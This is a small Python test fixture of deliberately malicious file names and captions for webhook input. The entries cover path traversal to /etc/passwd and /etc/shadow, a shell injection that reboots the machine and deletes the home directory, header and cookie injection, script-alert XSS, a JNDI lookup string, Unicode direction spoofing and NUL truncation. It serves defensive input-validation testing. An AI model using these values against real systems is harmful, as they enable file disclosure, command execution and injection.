"""Names and captions as nobody should send them. All of them come as JSON in a webhook, so any character may be in."""

from collections.abc import Mapping

NAMES: Mapping[str, str] = {
    "parent-folders": "../../../../etc/passwd",
    "windows-path": "..\\..\\C:\\Windows\\system32\\evil.exe",
    "absolute": "/etc/shadow",
    "dots": "..",
    "reading-direction": "invoice\u202egpj.exe",
    "isolates": "\u2067fdp.exe\u2069\u2066photo\u2069",
    "long": "x" * 296 + ".jpg",
    "long-emoji": "👩‍👩‍👧‍👦" * 60 + ".png",
    "nul": "photo.jpg\0.exe",
    "newlines": "photo.jpg\r\nSet-Cookie: session=stolen\r\n\r\n<script>alert(1)</script>",
    "header-quotes": 'a"; filename="evil.html',
    "percent": "%2e%2e%2f%00%0d%0aX-Evil: 1.jpg",
    "emoji": "🎉 Rechnung März.pdf",
    "lone-surrogate": "a\ud800b.jpg",
    "empty": "",
    "blank": " \u00a0\u3000\t ",
    "markup": "<img src=x onerror=alert(1)>.svg",
    "combining": "Z" + "\u0301" * 290,
    "invisible": "a\u200b\u2060\ufeff\u00ad.exe",
    "shell": "$(reboot); `id` | rm -rf ~ #.pdf",
    "template": "{{7*7}} ${jndi:ldap://example.invalid/a} %s%n.docx",
    "device": "CON.txt",
    "key": "$where",
}
"""By what is wrong with each."""
